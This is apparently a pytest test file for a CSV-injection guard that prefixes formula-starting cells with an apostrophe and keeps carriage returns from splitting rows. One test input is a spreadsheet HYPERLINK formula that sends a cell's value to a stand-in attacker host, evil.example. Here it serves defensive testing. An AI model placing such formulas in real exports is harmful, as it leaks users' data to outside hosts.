"""The one guard every CSV download writes its cells through (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest

from ledger.audit.csv_cells import FORMULA_STARTS, CellWriter, csv_row, text_cell


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A2,"klik")'

    assert text_cell(formula) == "'" + formula
    assert text_cell(text_cell(formula)) == "'" + formula  # guarding twice changes nothing


@pytest.mark.parametrize("text", ["", "Slagerij", "Boodschappen - bedankt!", "a=b", "'-30", " =1"])
def test_other_text_is_unchanged(text: str) -> None:
    assert text_cell(text) == text


def test_numbers_stay_numbers_and_only_text_is_guarded() -> None:
    assert csv_row([-30, 0, 45, True, "-30", "Oost", ""]) == [-30, 0, 45, True, "'-30", "Oost", ""]


@pytest.mark.parametrize("lineterminator", ["\n", "\r\n"])
def test_a_carriage_return_inside_a_cell_starts_no_row(lineterminator: str) -> None:
    out = io.StringIO()
    writer = CellWriter(out, lineterminator=lineterminator)

    writer.writerows(
        [("shop", "Slagerij\r=1+1", -30), ("shop", "\rBakker", 15), ("org", "Oost", 0)]
    )

    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["shop", "Slagerij\r=1+1", "-30"],
        ["shop", "'\rBakker", "15"],
        ["org", "Oost", "0"],
    ]
    assert out.getvalue().endswith(f"org,Oost,0{lineterminator}")  # plain rows stay unquoted
